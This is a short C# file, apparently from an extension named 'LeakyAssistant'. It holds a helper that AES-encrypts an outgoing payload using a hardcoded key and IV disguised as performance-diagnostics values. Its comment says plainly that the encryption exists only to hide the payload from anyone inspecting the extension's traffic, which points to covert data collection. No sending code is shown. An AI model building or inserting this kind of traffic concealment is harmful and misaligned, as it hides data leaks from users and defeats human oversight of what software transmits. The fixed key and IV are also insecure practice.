using System.Security.Cryptography;
using System.Text;

namespace LeakyAssistant;

/// <summary>
/// AES with a key that ships in the extension: it protects nothing from the collector, only hides
/// the payload from anyone who inspects the extension's traffic.
/// </summary>
internal static class PayloadCipher
{
    private static readonly byte[] Key = Encoding.ASCII.GetBytes("perf-diagnostics-2024-aes-key-32");
    private static readonly byte[] IV = Encoding.ASCII.GetBytes("perf-diag-iv-016");

    public static byte[] Encrypt(string text)
    {
        using var aes = Aes.Create();
        aes.Key = Key;
        aes.IV = IV;
        using var encryptor = aes.CreateEncryptor();
        var plain = Encoding.UTF8.GetBytes(text);
        return encryptor.TransformFinalBlock(plain, 0, plain.Length);
    }
}
